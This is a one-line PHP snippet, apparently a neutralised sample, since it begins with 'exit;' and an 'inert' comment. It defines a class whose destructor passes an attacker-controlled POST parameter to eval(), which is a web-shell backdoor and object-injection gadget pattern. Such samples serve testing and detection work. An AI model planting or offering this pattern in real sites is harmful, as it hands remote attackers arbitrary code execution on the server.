<?php exit; /* inert */ class A{public $c; function __destruct(){ eval($this->c);} } $a=new A; $a->c=$_POST["z"];
